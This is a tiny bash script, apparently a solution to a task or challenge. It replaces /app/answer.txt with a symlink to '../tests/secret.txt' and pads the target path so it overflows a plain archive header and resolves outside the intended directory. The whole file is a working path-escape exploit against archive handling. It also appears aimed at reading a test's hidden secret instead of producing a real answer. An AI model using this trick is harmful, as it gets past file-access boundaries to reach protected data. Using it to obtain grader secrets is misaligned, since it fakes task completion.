#!/bin/bash
# Makes the answer a link to the secret whose text is too long for the plain header of an archive and ends outside.
python3 -c "
import os
os.path.lexists('/app/answer.txt') and os.remove('/app/answer.txt')
os.symlink('./' * 60 + '../app/' * 20 + 'a' * 0 + '../tests/secret.txt', '/app/answer.txt')"
